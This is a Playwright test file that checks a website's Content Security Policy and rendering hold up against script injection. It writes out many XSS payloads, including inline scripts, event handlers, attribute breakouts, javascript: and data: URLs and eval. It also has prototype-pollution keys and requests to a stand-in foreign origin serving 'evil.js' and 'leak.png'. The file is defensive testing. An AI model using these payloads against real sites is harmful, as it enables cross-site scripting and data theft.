/** What the browser refuses by our rules, and what hostile content does. */
import type { Page } from '@playwright/test'
import { serveForeignOrigin } from '../support/foreign-origin.ts'
import {
  aGame,
  aJob,
  aPressRelease,
  aProduct,
  aQuestion,
  expect,
  test,
  uniqueWord,
} from '../support/own-documents.ts'

/** What Chromium logs about blocked content. These tests look at what ran. */
const REFUSALS =
  /Content Security Policy|Trusted(HTML|Script|ScriptURL|Type)|Refused to|violates|ERR_BLOCKED_BY_CSP/

const pwned = (page: Page) => page.evaluate(() => Reflect.get(window, 'pwned') ?? null)

/** Time in which blocked code would run if it were not blocked, in ms. */
const settled = (page: Page) => page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)))

/** Ways in which text becomes code in an open page; each must throw or do nothing. */
function attacks(foreign: string) {
  const code = 'window.pwned = "run"'
  const attempts: Record<string, () => unknown> = {
    innerHTML: () => {
      document.body.innerHTML += `<img src="/x.png" onerror='${code}'>`
    },
    srcdoc: () => {
      const frame = document.createElement('iframe')
      frame.srcdoc = `<script>parent.${code}</script>`
      document.body.append(frame)
    },
    handler: () => {
      const button = document.createElement('button')
      button.setAttribute('onclick', code)
      button.click()
    },
    'inline script': () => {
      const script = document.createElement('script')
      script.append(code)
      document.body.append(script)
    },
    'script text': () => {
      const script = document.createElement('script')
      script.textContent = code
    },
    'foreign script': () => {
      const script = document.createElement('script')
      script.src = `${foreign}/evil.js`
      document.body.append(script)
    },
    eval: () => Reflect.apply(Reflect.get(window, 'eval'), window, [code]),
    Function: () => new Function(code)(),
    timer: () => window.setTimeout(code),
    'javascript: link': () => {
      const link = document.createElement('a')
      link.href = `javascript:${code}`
      document.body.append(link)
      link.click()
    },
    worker: () => new Worker(URL.createObjectURL(new Blob([code]))),
    'foreign import': () => import(`${foreign}/evil.js`).catch(() => {}),
    'foreign request': () => fetch(foreign).catch(() => {}),
    'foreign image': () => {
      const image = new Image()
      image.src = `${foreign}/leak.png`
    },
    'foreign form': () => {
      const form = document.createElement('form')
      form.action = foreign
      document.body.append(form)
      form.submit()
    },
  }
  // In a separate task: the browser allows its debugger what it does not allow a page.
  const ended = Object.entries(attempts).map(
    ([name, attempt]) =>
      new Promise<string>((resolve) => {
        setTimeout(() => {
          try {
            attempt()
            resolve(`${name}: silent`)
          } catch {
            resolve(`${name}: thrown`)
          }
        })
      }),
  )
  return Promise.all(ended)
}

/** Adds scripts to the HTML of a page, inline, as handlers and from elsewhere. */
const inject = (page: Page, path: string, foreign: string) =>
  page.route(path, async (route) => {
    const response = await route.fetch()
    const injected = `<script>window.pwned = 'inline'</script><svg onload="window.pwned = 'handler'"></svg>
      <img src="/nothing.png" alt="" onerror="window.pwned = 'handler'"><base href="${foreign}/">
      <script src="${foreign}/evil.js"></script><script type="module" src="${foreign}/m.js"></script>
      <script src="data:text/javascript,window.pwned='data'"></script>
      <link rel="stylesheet" href="${foreign}/evil.css"><style>body { display: none }</style>`
    const body = (await response.text()).replace('<div id="root"', `${injected}<div id="root"`)
    await route.fulfill({ response, body })
  })

test('no script runs that gets into the HTML or into an open page, and nothing leaves for elsewhere', async ({
  page,
  allowNoise,
}) => {
  allowNoise(REFUSALS)
  allowNoise(/nothing\.png/)
  // Chromium doesn’t know the origin of a page that a test fulfils, and blocks its requests to this machine.
  allowNoise(/address space|net::ERR_FAILED/)
  const stranger = await serveForeignOrigin()
  await inject(page, '/fist', stranger.origin)
  await page.goto('/fist')
  await expect(page.getByRole('heading', { level: 1, name: 'F.I.S.T.' })).toBeVisible()
  await settled(page)
  expect(await pwned(page)).toBeNull()
  expect(stranger.asked).toEqual([])

  await page.goto('/faq')
  const ended = await page.evaluate(attacks, stranger.origin)
  await settled(page)
  expect(await pwned(page)).toBeNull()
  expect(stranger.asked).toEqual([])
  stranger.close()
  const thrown = ended.filter((line) => line.endsWith('thrown')).map((line) => line.split(':')[0])
  expect(thrown).toEqual(
    expect.arrayContaining([
      'innerHTML',
      'srcdoc',
      'script text',
      'foreign script',
      'eval',
      'Function',
      'timer',
    ]),
  )
  expect(await page.evaluate(() => location.pathname)).toBe('/faq')
})

const CODE = 'window.pwned=1'

/** Breaks out of attributes, elements and comments, reverses the reading direction, and fits on no line. */
const hostile = [
  `</title></script><!--<script>${CODE}</script>`,
  `<img src=x onerror="${CODE}">`,
  `" onmouseover="${CODE}" style="position:fixed;inset:0`,
  '\u202eright to left \ud800 half a character \0',
  'W'.repeat(400),
  'Z\u0301\u0327\u0335\u0301\u0327\u0335',
].join(' ')

const span = (text: string, marks: string[] = []) => ({ _key: 's', _type: 'span', text, marks })
const paragraph = (key: string, rest: object = {}) => ({
  _key: key,
  _type: 'block',
  style: 'normal',
  markDefs: [],
  children: [span(hostile)],
  ...rest,
})

const addresses = [
  'javascript:window.pwned=1',
  `data:text/html,<script>${CODE}</script>`,
  '//evil.example',
  '\0',
]

const body = [
  paragraph('plain'),
  paragraph('proto', { style: '__proto__' }),
  paragraph('list', { style: 'h2', listItem: 'constructor', level: 40 }),
  ...addresses.map((href, index) =>
    paragraph(`link${index}`, {
      markDefs: [{ _key: 'm', _type: 'link', href, newTab: true }],
      children: [span(`Press ${index}`, ['m'])],
    }),
  ),
  ...addresses.map((href, index) => ({
    _key: `button${index}`,
    _type: 'button',
    label: `Go ${index}`,
    href,
  })),
  { _key: 'video', _type: 'video', youtubeId: '"><script>', title: hostile },
  { _key: 'figure', _type: 'figure', caption: hostile },
  { _key: 'unknown', _type: 'hologram', html: `<script>${CODE}</script>` },
  { _key: 'table', _type: '__proto__', children: [{ _type: 'constructor' }] },
]

const seo = { _type: 'seo', title: hostile, description: hostile }

/** The page shows hostile text, runs none, and can’t be scrolled sideways. */
async function expectInBounds(page: Page) {
  const long = page.getByRole('main').getByText('W'.repeat(400))
  await expect(long.first()).toBeAttached()
  const widest = () => page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)
  await expect.poll(widest, `${page.url()} scrolls sideways`).toBeLessThanOrEqual(0)
  expect(await pwned(page), page.url()).toBeNull()
}

async function expectHarmless(page: Page, path: string) {
  await page.goto(path)
  const main = page.getByRole('main')
  await expect(page.getByRole('heading', { level: 1 })).toHaveCount(1)
  await expect(page.getByRole('contentinfo')).toBeVisible()
  for (const link of await main.getByText(/^Press \d/).all()) await link.dispatchEvent('click')
  await expectInBounds(page)
  expect(new URL(page.url()).pathname).toBe(path)
}

test('hostile documents are shown as text, and break neither page nor layout', async ({ page, publish }) => {
  test.setTimeout(90_000)
  const word = uniqueWord()
  const game = {
    ...aGame(word, hostile),
    summary: hostile,
    tagline: hostile,
    body,
    seo,
    releaseNote: hostile,
  }
  const colours = { accent: `red;background:url(//evil.example)`, ground: '"><script>' }
  await publish({ ...game, ...colours, licence: hostile })
  const product = { ...aProduct(word, hostile, 120), hidden: true, description: hostile, body, seo }
  await publish({ ...product, type: '__proto__', unlocks: [hostile] })
  await publish({ ...aPressRelease(word, hostile), publishedOn: hostile, summary: hostile, body, seo })
  await publish({ ...aQuestion(hostile, hostile), topic: 'constructor', answer: body })
  await publish({ ...aJob(word, hostile), location: hostile, applyTo: addresses[0], body })
  for (const path of [`/${word}`, `/shop/product/${word}`, `/press/${word}`, '/faq', `/jobs/${word}`])
    await expectHarmless(page, path)
  for (const [path, name] of [
    ['/news', 'Press & News'],
    ['/games', 'Games'],
    ['/jobs', 'Jobs'],
  ] as const) {
    await page.getByRole('contentinfo').locator(`a[href="${path}"]`).click()
    await expect(page.getByRole('heading', { level: 1, name, exact: true })).toBeVisible()
    await expectInBounds(page)
  }
})
